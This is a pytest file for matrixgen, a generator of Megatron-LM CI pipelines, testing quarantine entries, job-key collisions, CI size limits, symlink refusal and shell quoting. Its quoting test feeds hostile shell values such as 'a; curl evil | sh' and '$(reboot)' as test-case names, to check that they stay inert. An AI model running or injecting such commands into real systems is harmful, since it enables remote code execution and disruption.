"""matrixgen.systems.gitlab.megatron and `jet-trigger` / `jet-buckets`: what Megatron-LM's
generator does not do (quarantine, jobs it would lose, values no recipe uses,
quoting), on small trees whose answers are worked out by hand. The agreement
with the real generator is in test_jet_upstream.py."""

from __future__ import annotations

import json
import os
import posixpath
import shlex
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest
import yaml
from hypothesis import example, given, settings
from hypothesis import strategies as st

from matrixgen.model.jobs import Job
from matrixgen.systems.gitlab.megatron import JetCall, Notice, job_keys, launcher_command
from tests import realvalidators as rv
from tests.conftest import Run, require_megatron

TRACKER = "https://github.com/example/mcore/issues/"

GPT = """
type: basic
format_version: 1
spec:
  name: "{test_case}_{environment}_{platforms}"
  model: gpt
  build: mcore-pyt-{environment}
  platforms: dgx_h100
  script: "{SCRIPT}"
products:
  - test_case: [gpt_a]
    products:
      - {environment: [dev], scope: [mr, mr-github]}
  - test_case: [gpt_b]
    products:
      - {environment: [dev], scope: [mr, mr-github]}
  - test_case: [gpt_c]
    products:
      - {environment: [dev, lts], scope: [mr]}
"""
BUILD = """
type: build
format_version: 1
spec: {name: mcore-pyt-dev, source: {image: mcore}}
"""


def entry(id_: str, action: str, test_case: str, *, where: str = "", node_ids: str = "") -> str:
    lines = [
        f"  - id: {id_}",
        f'    tracker: "{TRACKER}1"',
        "    kind: flaky",
        f"    action: {action}",
        f"    match: {{test_case: {test_case}}}",
        "    owner: mcore",
        "    reason: flaky in CI",
    ]
    if where:
        lines.append(f"    where: [{where}]")
    if node_ids:
        lines.append(f"    node_ids: [{node_ids}]")
    return "\n".join(lines) + "\n"


def jet_tree(tree: Callable, *entries: str, script: str = "pytest tests", extra=None) -> Path:
    files = {"h100/gpt.yaml": GPT.replace("{SCRIPT}", script), "_build-mcore-dev.yaml": BUILD}
    if entries:
        files["quarantine.yaml"] = "entries:\n" + "".join(entries)
    files.update(extra or {})
    return tree(files)


def call(root: Path, out: Path, *args: str) -> list[str]:
    base = {
        "--scope": "mr",
        "--environment": "dev",
        "--platform": "dgx_h100",
        "--cluster": "dgxh100_eos",
        "--test-cases": "all",
        "--container-image": "img",
        "--container-tag": "7",
        "--dependent-job": "functional:configure",
        "--slurm-account": "acct",
    }
    given_flags = set(args[::2])
    pairs = [x for k, v in base.items() if k not in given_flags for x in (k, v)]
    return [
        "jet-trigger",
        *pairs,
        *args,
        "--output-path",
        str(out),
        "--recipes",
        str(root),
        "--no-enable-warmup",
    ]


def plain_call(**more: object) -> JetCall:
    """A call of the generator with the required options only (and `more`)."""
    fields: dict = {
        "scope": "mr",
        "environment": "dev",
        "test_cases": "all",
        "platform": "dgx_h100",
        "cluster": "ghci",
        "container_image": "img",
        "container_tag": "7",
        "dependent_job": "configure",
        "slurm_account": "acct",
    }
    return JetCall(**{**fields, **more})


def jobs_of(path: Path) -> dict[str, dict]:
    document = yaml.safe_load(path.read_text(encoding="utf-8"))
    return {k: v for k, v in document.items() if isinstance(v, dict) and "script" in v}


def run_jet(cli: Callable[..., Run], root: Path, out: Path, *args: str) -> Run:
    return cli(*call(root, out, *args))


# --------------------------------------------------------------------------- quarantine


def test_a_skip_entry_takes_the_job_out_where_it_applies_only(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, entry("b-hangs", "skip", "gpt_b", where="gitlab/mr"))
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, root, out)
    assert run.code == 0, run
    assert set(jobs_of(out)) == {"gpt_a", "gpt_c"}
    assert "1 skipped by quarantine (b-hangs)" in run.err
    # The GitHub pipeline of the same case is another place: the entry does not apply.
    run = run_jet(cli, root, out, "--scope", "mr-github", "--system", "github")
    assert run.code == 0, run
    assert set(jobs_of(out)) == {"gpt_a", "gpt_b"}
    # GitHub asking for the GitLab scope is github/mr: not covered either.
    run = run_jet(cli, root, out, "--system", "github")
    assert set(jobs_of(out)) == {"gpt_a", "gpt_b", "gpt_c"}


def test_the_system_defaults_to_github_inside_github_actions(
    tree: Callable, cli: Callable, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = jet_tree(tree, entry("b-l1", "skip", "gpt_b", where="github/L1"))
    out = tmp_path / "l1.yaml"
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    assert run_jet(cli, root, out, "--scope", "mr-github").code == 0
    assert set(jobs_of(out)) == {"gpt_a", "gpt_b"}
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert run_jet(cli, root, out, "--scope", "mr-github").code == 0
    assert set(jobs_of(out)) == {"gpt_a"}


def test_an_allow_failure_entry_makes_that_job_non_blocking(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, entry("c-flaky", "allow-failure", "gpt_c"))
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, root, out)
    assert run.code == 0, run
    jobs = jobs_of(out)
    assert {k: v["allow_failure"] for k, v in jobs.items()} == {
        "gpt_a": False,
        "gpt_b": False,
        "gpt_c": True,
    }
    assert "1 allowed to fail by quarantine" in run.err


def test_a_skip_of_every_job_writes_the_placeholder_pipeline(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, entry("all", "skip", "gpt_*"))
    out = tmp_path / "mr.yaml"
    assert run_jet(cli, root, out).code == 0
    document = yaml.safe_load(out.read_text(encoding="utf-8"))
    assert document["stages"] == ["empty-pipeline-placeholder"]
    assert document["empty-pipeline-placeholder-job"]["script"] == ["sleep 1"]


def test_a_node_level_entry_needs_a_script_that_reaches_the_plugin(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    node = "tests/test_a.py::test_one"
    deselect = entry("a-node", "deselect", "gpt_a", node_ids=node)
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, jet_tree(tree, deselect), out)
    assert run.code == 1, run
    # The call whose pipeline holds the job refuses it, naming entry and job,
    # before anything is written.
    said = "entry a-node (deselect) cannot reach the tests of gpt/gpt_a on dgx_h100/dev"
    assert said in run.err and "in target gitlab-mr-dgx_h100-dev" in run.err
    assert "never exports MATRIXGEN_QUARANTINE" in run.err
    assert not out.exists()
    reaching = jet_tree(tree, deselect, script="MATRIXGEN_QUARANTINE=q.yaml pytest tests")
    run = run_jet(cli, reaching, out)
    assert run.code == 0, run
    # The pipeline is as without the entry: the plugin deselects inside the job.
    assert set(jobs_of(out)) == {"gpt_a", "gpt_b", "gpt_c"}
    assert "--deselect" not in out.read_text(encoding="utf-8")


def test_an_entry_that_cannot_reach_its_job_stops_only_the_calls_that_hold_it(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    """One bad node-level entry (its job's script no longer hands the quarantine
    file on) stopped every jet-trigger and jet-buckets call of the pipeline,
    those that do not write its job included."""
    bucket = entry(
        "data-node", "mute", "tests/unit_tests/data/", node_ids="tests/unit_tests/data/t.py::x"
    )
    root = tree(
        {
            "h100/gpt.yaml": GPT.replace("{SCRIPT}", "pytest tests"),
            "h100/unit-tests.yaml": UNIT,
            "_build-mcore-dev.yaml": BUILD,
            "quarantine.yaml": "entries:\n" + bucket,
        }
    )
    out = tmp_path / "pipeline.yaml"
    # Functional pipelines, and another bucket asked alone: written.
    for args in (("--scope", "mr"), ("--scope", "mr-github")):
        run = run_jet(cli, root, out, *args)
        assert run.code == 0, run
    run = run_jet(cli, root, out, "--scope", "unit-tests", "--tag", "latest",
                  "--test-cases", "tests/unit_tests/models/")  # fmt: skip
    assert run.code == 0, run
    assert set(jobs_of(out)) == {"tests/unit_tests/models/"}
    # The call that holds the bucket: refused, saying which entry and which job.
    out.unlink()
    run = run_jet(cli, root, out, "--scope", "unit-tests", "--tag", "latest")
    assert run.code == 1, run
    assert "entry data-node (mute) cannot reach the tests of unit-tests/tests/unit_tests/data/" in (
        run.err
    )
    assert not out.exists()
    # jet-buckets the same: the matrix holding the bucket is refused, with both named.
    run = cli("jet-buckets", root / "h100/unit-tests.yaml", "--recipes", root,
              "--system", "gitlab")  # fmt: skip
    assert run.code == 1, run
    assert "entry data-node (mute) cannot reach the tests of bucket tests/unit_tests/data/" in (
        run.err
    )
    # validate still reports it, at the entry.
    run = cli("validate", "--recipes", root)
    assert "[quarantine-unreachable]" in run.out + run.err


def test_the_emitter_itself_refuses_a_node_level_mark_it_cannot_hand_on() -> None:
    """Whatever place a call asks for (validate checks the targets a tree implies),
    the emitter never writes a job whose marked node ids would go nowhere."""
    from msgspec.structs import replace

    from matrixgen.model.errors import RecipeError
    from matrixgen.model.jobs import QuarantineMark
    from matrixgen.model.vocab import System
    from matrixgen.systems.gitlab.megatron import JetProfile, jet_pipeline, jet_target

    call = plain_call()
    mark = QuarantineMark(
        id="e", tracker="#1", action="mute", kind="flaky", node_ids=("tests/t.py::x",)
    )
    job = replace(_job("a"), quarantine=mark, spec={"script": "pytest tests"})
    target = jet_target(call, System.GITHUB)
    with pytest.raises(RecipeError, match="entry e \\(mute\\) cannot reach the tests"):
        jet_pipeline([job], [], call, target, JetProfile(), file_order={})
    reaching = replace(job, spec={"script": "MATRIXGEN_QUARANTINE=q.yaml pytest tests"})
    assert jet_pipeline([reaching], [], call, target, JetProfile(), file_order={}).jobs


# --------------------------------------------------------------------------- lost jobs

OTHER_MODEL = """
type: basic
format_version: 1
spec:
  name: "{test_case}"
  model: moe
  build: mcore-pyt-{environment}
  platforms: dgx_h100
products:
  - test_case: [gpt_a]
    products:
      - {environment: [dev], scope: [mr]}
  - test_case: [stages]
    products:
      - {environment: [dev], scope: [mr]}
"""


def test_jobs_the_generator_would_lose_are_kept_and_said(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, extra={"h100/moe.yaml": OTHER_MODEL})
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, root, out)
    assert run.code == 0, run
    document = yaml.safe_load(out.read_text(encoding="utf-8"))
    # The keyword stays a setting; the job named like it is kept under another key.
    assert document["stages"] == ["gpt", "moe"]
    jobs = jobs_of(out)
    assert set(jobs) == {"gpt_a", "gpt_a (2)", "gpt_b", "gpt_c", "stages (2)"}
    # The generator keeps the later job of a test case (by model: moe after gpt).
    assert jobs["gpt_a"]["stage"] == "moe" and jobs["gpt_a (2)"]["stage"] == "gpt"
    assert "--test-case 'gpt_a'" in jobs["gpt_a (2)"]["script"][0]
    assert '2 selected jobs share test case "gpt_a"' in run.err
    assert 'test case "stages" is a GitLab keyword' in run.err
    strict = run_jet(cli, root, tmp_path / "strict.yaml", "--strict")
    assert strict.code == 2 and not (tmp_path / "strict.yaml").exists(), strict


def _job(test_case: str, model: str = "gpt") -> Job:
    return Job(
        model=model,
        test_case=test_case,
        environment="dev",
        platform="dgx_h100",
        tag=None,
        scope="mr",
        cadence=("pr",),
        name=test_case,
        build=None,
        n_repeat=1,
        time_limit=1,
    )


@given(st.lists(st.sampled_from(["a", "a (2)", "b", "stages", "default", "a (3)"]), max_size=8))
@example(["a", "a (2)", "a"])
def test_job_keys_are_unique_and_keep_what_the_generator_keeps(names: list[str]) -> None:
    jobs = [_job(name, model=f"m{i}") for i, name in enumerate(names)]
    keys, _ = job_keys(jobs)
    assert len(keys) == len(jobs) == len(set(keys))
    assert not set(keys) & {"stages", "default"}
    for name in set(names) - {"stages", "default"}:
        last = max(i for i, n in enumerate(names) if n == name)
        assert keys[last] == name  # the job the generator would keep, under its own key


# --------------------------------------------------------------------------- CI limits

# What GitLab takes for no job (docs/ci-limits.md), written out here, not read
# from the code that checks it.
GITLAB_NO_JOB = {
    "after_script", "before_script", "cache", "default", "image", "include", "services",
    "spec", "stages", "variables", "workflow", "types", "true", "false", "nil", "pages",
}  # fmt: skip
TEST_CASE_NAMES = st.one_of(
    st.sampled_from(sorted(GITLAB_NO_JOB)),
    st.sampled_from([".hidden", "a", "b", "a (2)"]),
    st.integers(120, 260).map(lambda n: "t" * n),  # around 128 (needs) and 255 (names)
)


def _limit_messages(notices: Sequence[Notice]) -> list[str]:
    return [n.message for n in notices if n.code == "ci-limit"]


@example(names=["t" * 255], dependent=128, warmup=True)
@example(names=["t" * 256], dependent=128, warmup=True)
@example(names=["t" * 129, "a"], dependent=128, warmup=True)
@example(names=["t" * 129, "a"], dependent=128, warmup=False)
@example(names=["t" * 128, "a"], dependent=129, warmup=False)
@example(names=[*sorted(GITLAB_NO_JOB), ".hidden"], dependent=10, warmup=True)
@given(
    names=st.lists(TEST_CASE_NAMES, max_size=6),
    dependent=st.sampled_from([10, 128, 129]),
    warmup=st.booleans(),
)
def test_jet_trigger_says_every_gitlab_limit_its_pipeline_would_break(
    names: list[str], dependent: int, warmup: bool
) -> None:
    """A job key GitLab would not run is renamed or said; a job name past 255
    characters, a name in `needs` past 128: a ci-limit notice (an error with
    --strict), exactly when the file breaks the limit."""
    from matrixgen.model.vocab import System
    from matrixgen.systems.gitlab.megatron import JetProfile, jet_pipeline, jet_target

    call = plain_call(dependent_job="d" * dependent, enable_warmup=warmup)
    jobs = [_job(name, model=f"m{i}") for i, name in enumerate(names)]
    target = jet_target(call, System.GITLAB)
    pipeline = jet_pipeline(jobs, [], call, target, JetProfile(), file_order={})
    keys = [key for key, _ in pipeline.jobs]
    document = yaml.safe_load(pipeline.text)
    assert not set(keys) & GITLAB_NO_JOB and set(keys) <= set(document)
    hidden = [n.message for n in pipeline.notices if n.code == "job-key-hidden"]
    assert len(hidden) == len({k for k in keys if k.startswith(".")})
    said = _limit_messages(pipeline.notices)
    long_names = [k for k in keys if len(k) > 255]
    long_needs = [call.dependent_job] if dependent > 128 else []
    if warmup and len(keys) > 1 and len(keys[0]) > 128:
        long_needs.append(keys[0])
    assert len(said) == len(long_names) + len(long_needs), said
    for key in long_names:
        assert any(f"is {len(key)} characters (at most 255)" in m for m in said)
    for name in long_needs:
        assert any(f"{name[:80]}... is {len(name)} characters" in m for m in said)


@example(rows=256, model_length=1)
@example(rows=257, model_length=1)
@example(rows=200, model_length=5_000)  # 200 rows past 1 MB
@example(rows=190, model_length=5_200)
@settings(max_examples=20)  # each example writes a pipeline of up to 300 jobs twice
@given(rows=st.integers(0, 300), model_length=st.sampled_from([1, 100, 5_000, 5_200]))
def test_jet_trigger_on_github_says_a_matrix_github_would_refuse(
    rows: int, model_length: int
) -> None:
    """On GitHub the workflow turns the file into a matrix, a row per job: past
    256 rows or 1 MB (10**6 bytes of compact JSON) it is said."""
    from matrixgen.model.vocab import System
    from matrixgen.systems.gitlab.megatron import JetProfile, jet_pipeline, jet_target

    call = plain_call()
    model = "m" * model_length
    jobs = [_job(f"c{i}", model=model) for i in range(rows)]
    pipeline = jet_pipeline(
        jobs, [], call, jet_target(call, System.GITHUB), JetProfile(), file_order={}
    )
    matrix = [{"model": model, "test_case": key} for key, _ in pipeline.jobs]
    size = len(json.dumps(matrix, separators=(",", ":")).encode())
    said = _limit_messages(pipeline.notices)
    assert any("a GitHub matrix runs at most 256 jobs" in m for m in said) is (rows > 256)
    assert any("outputs hold at most 1,000,000" in m for m in said) is (size > 10**6)
    # The same jobs for GitLab: a child pipeline has no row limit.
    gitlab = jet_pipeline(
        jobs, [], call, jet_target(call, System.GITLAB), JetProfile(), file_order={}
    )
    assert not any("GitHub" in m for m in _limit_messages(gitlab.notices))


def test_jet_trigger_strict_refuses_a_limit_with_exit_4(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    long_case = "gpt_" + "x" * 252  # 256 characters
    root = jet_tree(tree, extra={"h100/long.yaml": OTHER_MODEL.replace("stages", long_case)})
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, root, out)
    assert run.code == 0, run
    assert f"is 256 characters (at most 255): {long_case[:80]}..." in run.err
    assert "[ci-limit]" in run.err and long_case in jobs_of(out)
    strict = run_jet(cli, root, tmp_path / "strict.yaml", "--strict")
    assert strict.code == 4, strict
    assert "is 256 characters (at most 255)" in strict.err and "nothing written" in strict.err
    assert not (tmp_path / "strict.yaml").exists()


def test_jet_trigger_renames_a_job_gitlab_would_take_for_its_pages(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, extra={"h100/moe.yaml": OTHER_MODEL.replace("stages", "pages")})
    out = tmp_path / "mr.yaml"
    run = run_jet(cli, root, out)
    assert run.code == 0, run
    assert "pages" not in jobs_of(out) and "pages (2)" in jobs_of(out)
    assert 'test case "pages" is GitLab\'s keyword for the job that deploys GitLab Pages' in run.err


def test_jet_buckets_strict_refuses_a_matrix_github_would_refuse(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    def buckets(count: int, name_length: int = 1) -> str:
        blocks = "".join(
            f"  - test_case: [tests/unit_tests/{'b' * name_length}{i}/]\n    products:\n"
            "      - {environment: [dev], tag: [latest], scope: [unit-tests]}\n"
            for i in range(count)
        )
        return UNIT.split("products:\n")[0] + "products:\n" + blocks

    # Past 256 rows, or past 1 MB of compact JSON (200 rows of about 5 kB).
    for count, over, name_length in ((256, False, 1), (257, True, 1), (200, True, 5_000)):
        recipes = buckets(count, name_length)
        root = tree({"h100/unit-tests.yaml": recipes, "_build-mcore-dev.yaml": BUILD})
        recipe = root / "h100/unit-tests.yaml"
        run = cli("jet-buckets", recipe, "--recipes", root)
        assert run.code == 0 and len(json.loads(run.out)) == count, run
        assert ("a GitHub matrix runs at most 256 jobs" in run.err) is (count > 256)
        assert ("outputs hold at most 1,000,000" in run.err) is (name_length > 1)
        out = tmp_path / f"{count}.json"
        strict = cli("jet-buckets", recipe, "--recipes", root, "--strict", "--output", out)
        assert strict.code == (4 if over else 0), strict
        assert out.exists() is not over


# --------------------------------------------------------------------------- links

LOCAL = GPT.replace("gpt_a", "local_a").replace("gpt_b", "local_b").replace("gpt_c", "local_c")
OUTSIDE = GPT.replace("gpt_a", "outside_a")
LINK_TARGETS = st.one_of(
    st.sampled_from(["/", "OUTSIDE", "recipes", "sub", "local_recipes", "missing", "a-file"]),
    st.builds(
        lambda k, name: "../" * k + name, st.integers(1, 3), st.sampled_from(["", "x", "outside"])
    ),
    st.builds(lambda k: "sub/" + "../" * k + "outside", st.integers(1, 3)),
)


def _expected(target: str, checkout: Path) -> str:
    """What the rule says of `local_recipes -> target` (worked out by hand, not by
    the code under test): "refused" (it leaves the checkout's folder, loops or
    is a link to a directory) or "none" (it leads to a file or nothing)."""
    if target.startswith("/"):
        return "refused"
    path = posixpath.normpath(target)
    if path == ".." or path.startswith("../"):
        return "refused"
    if path == "local_recipes" or (checkout / path).is_dir():
        return "refused"
    return "none"


@example(target="/")
@example(target="OUTSIDE")  # an absolute path to a folder of recipes outside
@example(target="../outside")
@example(target="sub/../../outside")
@example(target="recipes")  # a link to a directory inside: not followed
@example(target="local_recipes")  # a loop
@example(target="missing")
@example(target="a-file")
@settings(max_examples=30, deadline=None)
@given(target=LINK_TARGETS)
def test_local_recipes_follow_the_tree_rule_for_links(tmp_path_factory, target: str) -> None:
    from unittest import mock

    from matrixgen.cli.jet import load_jet_tree
    from matrixgen.engine import load
    from matrixgen.model.errors import RecipeError
    from tests.conftest import write_tree

    base = tmp_path_factory.mktemp("links")
    outside = write_tree(base / "outside", {"h100/gpt.yaml": OUTSIDE, "_build.yaml": BUILD})
    checkout = base / "checkout"
    recipes = write_tree(checkout / "recipes", {"h100/gpt.yaml": GPT.replace("{SCRIPT}", "x"),
                                                "_build-mcore-dev.yaml": BUILD})  # fmt: skip
    write_tree(checkout / "sub", {"local.yaml": LOCAL})
    (checkout / "a-file").write_text("x")
    target = str(outside) if target == "OUTSIDE" else target
    (checkout / "local_recipes").symlink_to(target)
    listed: list[Path] = []
    real_list = load.list_directory

    def spy(root: Path) -> load.TreeListing:
        # Stop at once on a folder outside: a link to / would list the whole disk.
        listed.append(Path(os.path.abspath(root)))
        assert listed[-1].is_relative_to(checkout), f"listed {root}, outside the checkout"
        return real_list(root)

    with mock.patch.object(load, "list_directory", spy):
        try:
            generation, _ = load_jet_tree(recipes, None)
            outcome = "none"
        except RecipeError as exc:
            outcome = "refused"
            message = exc.message
    assert outcome == _expected(target, checkout), target
    if outcome == "refused":
        assert f"local_recipes: a symbolic link to {target!r}" in message
    else:
        cases = {j.test_case for j in generation.jobs}
        assert cases == {"gpt_a", "gpt_b", "gpt_c"}  # the tree's only
    # A real folder beside the tree is read; one given on the command line too.
    (checkout / "local_recipes").unlink()
    write_tree(checkout / "local_recipes", {"local.yaml": LOCAL})
    generation, _ = load_jet_tree(recipes, None)
    assert "local_a" in {j.test_case for j in generation.jobs}


def test_a_default_recipe_tree_that_is_a_link_is_refused(tmp_path: Path) -> None:
    import subprocess

    from matrixgen.model.errors import RecipeError
    from matrixgen.pipeline import default_recipes_dir

    checkout = tmp_path / "checkout"
    checkout.mkdir()
    subprocess.run(["git", "init", "-q", str(checkout)], check=True)
    (checkout / "recipes").symlink_to("/")
    with pytest.raises(RecipeError, match=r"recipes: a symbolic link to '/', which leaves"):
        default_recipes_dir(checkout)
    (checkout / "recipes").unlink()
    (checkout / "recipes").mkdir()
    assert default_recipes_dir(checkout).resolve() == (checkout / "recipes").resolve()


# --------------------------------------------------------------------------- values


def test_a_value_no_recipe_uses_is_a_warning_with_did_you_mean(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree)
    out = tmp_path / "x.yaml"
    run = run_jet(cli, root, out, "--scope", "mrr", "--test-cases", "gpt_a,gtp_b")
    assert run.code == 0, run
    said = '--scope "mrr" is used by no recipe, so it selects nothing (did you mean "mr"?)'
    assert said in run.err
    assert '--test-cases "gtp_b" is no test case of any recipe (did you mean "gpt_b"?)' in run.err
    assert "empty-pipeline-placeholder-job" in out.read_text(encoding="utf-8")
    # Legacy and tier names of a scope the tree uses are not unknown.
    run = run_jet(cli, root, out, "--scope", "L1", "--system", "github")
    assert "no recipe" not in run.err and set(jobs_of(out)) == {"gpt_a", "gpt_b"}
    run = run_jet(cli, root, out, "--scope", "mr-github", "--system", "github")
    assert "no recipe" not in run.err and set(jobs_of(out)) == {"gpt_a", "gpt_b"}
    # A misspelt legacy name is told the legacy name it is near, as the recipes write it.
    run = run_jet(cli, root, out, "--scope", "mr-githubb", "--system", "github")
    said = '--scope "mr-githubb" is used by no recipe, so it selects nothing'
    assert f'{said} (did you mean "mr-github"?)' in run.err


def test_clusters_and_cadences_the_generator_refuses_are_usage_errors(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree)
    out = tmp_path / "x.yaml"
    run = run_jet(cli, root, out, "--cluster", "dgxh100_eoss")
    assert run.code == 2, run
    assert 'unknown --cluster "dgxh100_eoss" (did you mean "dgxh100_eos"?)' in run.err
    run = run_jet(cli, root, out, "--cadence", "nigthly")
    assert run.code == 2 and 'did you mean "nightly"?' in run.err
    assert not out.exists()
    # As the generator: an unknown cluster with nothing selected still writes the placeholder.
    run = run_jet(cli, root, out, "--cluster", "elsewhere", "--platform", "dgx_b300")
    assert run.code == 0, run


@given(st.text(st.characters(blacklist_characters="\x00", codec="utf-8"), min_size=1))
@example("it's")
@example("a; curl evil | sh")
@example("$(reboot)")
@example("plain_name-1.2")
def test_a_test_case_is_one_shell_word_whatever_it_holds(name: str) -> None:
    command = launcher_command(
        _job(name),
        plain_call(run_name="r", wandb_experiment="w"),
    )
    words = shlex.split(command.split("; ", 1)[1])
    assert words[words.index("--test-case") + 1] == name
    assert words[words.index("--wandb-experiment") + 1] == f"w-gpt-{name}"
    if "'" not in name:  # as the generator writes it
        assert f"--test-case '{name}'" in command


# --------------------------------------------------------------------------- buckets

# The expression Megatron-LM's workflow runs with yq over a unit-test recipe.
BUCKETS_PROGRAM = '[.products[].test_case[] | { "bucket": .}] | sort_by(.model, .test_case)'


@pytest.mark.slow
@pytest.mark.parametrize("rel", ["h100/unit-tests.yaml", "gb200/unit-tests.yaml"])
def test_buckets_are_what_the_workflow_builds_from_the_recipe(cli: Callable, rel: str) -> None:
    rv.require_jq()
    recipes = require_megatron()
    path = recipes / rel
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    expected = rv.jq(BUCKETS_PROGRAM, json.dumps(data))
    run = cli("jet-buckets", path, "--recipes", recipes)
    assert run.code == 0, run
    assert json.loads(run.out) == json.loads(expected)
    assert json.loads(run.out)  # the workflow runs no empty matrix


UNIT = """
type: basic
format_version: 1
spec:
  name: "{test_case}_{environment}_{platforms}_{tag}"
  model: unit-tests
  build: mcore-pyt-{environment}
  platforms: dgx_h100
  script: "bash run_ci_test.sh --bucket {test_case}"
products:
  - test_case: [tests/unit_tests/data/]
    products:
      - {environment: [dev], tag: [latest], scope: [unit-tests]}
  - test_case: [tests/unit_tests/models/]
    products:
      - {environment: [dev], tag: [latest], scope: [unit-tests]}
  - test_case: [tests/unit_tests/ssm/, tests/unit_tests/extra/]
"""


def test_buckets_leave_out_what_a_skip_entry_skips_there(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    skip = entry("data-broken", "skip", "tests/unit_tests/data/", where="gitlab/unit-tests")
    allow = entry("models-flaky", "allow-failure", "tests/unit_tests/models/")
    build = BUILD
    root = tree(
        {
            "h100/unit-tests.yaml": UNIT,
            "_build-mcore-dev.yaml": build,
            "quarantine.yaml": "entries:\n" + skip + allow,
        }
    )
    recipe = root / "h100/unit-tests.yaml"
    run = cli("jet-buckets", recipe, "--recipes", root, "--system", "gitlab")
    assert run.code == 0, run
    assert json.loads(run.out) == [
        {"bucket": "tests/unit_tests/models/"},
        {"bucket": "tests/unit_tests/ssm/"},
        {"bucket": "tests/unit_tests/extra/"},
    ]
    assert "entry models-flaky (allow-failure) on bucket tests/unit_tests/models/" in run.err
    # GitHub asking is another place: the skip entry names GitLab's.
    run = cli("jet-buckets", recipe, "--recipes", root, "--system", "github")
    assert len(json.loads(run.out)) == 4
    out = tmp_path / "buckets.json"
    run = cli("jet-buckets", recipe, "--recipes", root, "--output", out, "--system", "gitlab")
    assert run.code == 0 and out.read_text(encoding="utf-8").count("\n") == 1
    assert len(json.loads(out.read_text(encoding="utf-8"))) == 3


# --------------------------------------------------------------------------- validators


@pytest.mark.slow
def test_the_real_trees_pipelines_pass_gitlabs_schema(cli: Callable, tmp_path: Path) -> None:
    rv.require_check_jsonschema()
    recipes = require_megatron()
    written = []
    for scope, platform in [("mr", "dgx_h100"), ("nightly", "dgx_gb200"), ("mr-slim", "dgx_x")]:
        out = tmp_path / f"{scope}-{platform}.yaml"
        args = ["--scope", scope, "--platform", platform, "--enable-error-extraction"]
        run = cli(*call(recipes, out, *args))
        assert run.code == 0, run
        written.append(out)
    assert "empty-pipeline-placeholder-job" in written[-1].read_text(encoding="utf-8")
    result = rv.check_jsonschema_gitlab(*written)
    assert result.returncode == 0, result


def test_allow_failure_asked_for_by_github_is_said_not_to_reach_its_jobs(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    root = jet_tree(tree, entry("a-flaky", "allow-failure", "gpt_a", where="github/L1"))
    out = tmp_path / "l1.yaml"
    run = run_jet(cli, root, out, "--scope", "mr-github", "--system", "github")
    assert run.code == 0, run
    assert jobs_of(out)["gpt_a"]["allow_failure"] is True
    assert "GitHub's workflow reads only model and test case" in run.err
    assert "[github-allow-failure]" in run.err
    # GitLab reads allow_failure itself: nothing to say there.
    gitlab = jet_tree(tree, entry("a-flaky", "allow-failure", "gpt_a", where="gitlab/mr"))
    run = run_jet(cli, gitlab, out)
    assert run.code == 0 and "github-allow-failure" not in run.err, run


def test_a_config_extends_the_clusters_and_sets_the_runner_tags(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    config = "jet:\n  runner_tags: [team/x, arch/arm64]\n  clusters: {newsite_h100: newsite}\n"
    root = jet_tree(tree, extra={"matrixgen.yaml": config})
    out = tmp_path / "x.yaml"
    run = run_jet(cli, root, out, "--cluster", "newsite_h100")
    assert run.code == 0, run
    assert {tuple(j["tags"]) for j in jobs_of(out).values()} == {
        ("team/x", "arch/arm64", "cluster/newsite")
    }
    # The built-in map still holds beside the config's.
    assert run_jet(cli, root, out, "--cluster", "dgxh100_eos").code == 0
    assert jobs_of(out)["gpt_a"]["tags"][-1] == "cluster/eos"


def test_githubs_unit_test_buckets_are_a_target_every_command_honours(
    tree: Callable, cli: Callable, tmp_path: Path
) -> None:
    """GitHub builds its unit-test bucket matrix from the same rows GitLab runs
    (`jet-buckets`): `github/unit-tests` is a place an entry may name, and only
    GitHub's calls apply it."""
    root = tree({"h100/unit-tests.yaml": UNIT, "_build-mcore-dev.yaml": BUILD})
    added = cli("quarantine", "add", "--recipes", root, "--test-case", "tests/unit_tests/data/",
                "--tracker", f"{TRACKER}9", "--kind", "broken", "--action", "skip",
                "--scope", "github/unit-tests", "--reason", "r", "--owner", "o")  # fmt: skip
    assert added.code == 0, added
    assert "github-unit-tests-dgx_h100-dev: skips 1 job" in added.out
    assert cli("validate", "--recipes", root).code == 0
    recipe = root / "h100/unit-tests.yaml"
    github = cli("jet-buckets", recipe, "--recipes", root, "--system", "github")
    gitlab = cli("jet-buckets", recipe, "--recipes", root, "--system", "gitlab")
    assert {"bucket": "tests/unit_tests/data/"} not in json.loads(github.out)
    assert {"bucket": "tests/unit_tests/data/"} in json.loads(gitlab.out)
    out = tmp_path / "unit.yaml"
    run = run_jet(cli, root, out, "--scope", "unit-tests", "--tag", "latest", "--system", "gitlab")
    assert run.code == 0, run
    assert "tests/unit_tests/data/" in jobs_of(out)
    listed = cli("list", "--recipes", root, "--target", "github-unit-tests-dgx_h100-dev")
    assert listed.code == 0 and "tests/unit_tests/data/" not in listed.out


# --------------------------------------------------------------------------- the whole file

BERT = """
type: basic
format_version: 1
spec:
  name: "{test_case}_{environment}_{platforms}"
  model: bert
  build: mcore-pyt-{environment}
  platforms: dgx_h100
  allow_failure: true
  script: "pytest tests"
products:
  - test_case: [bert_x]
    products:
      - {environment: [dev], scope: [mr]}
"""
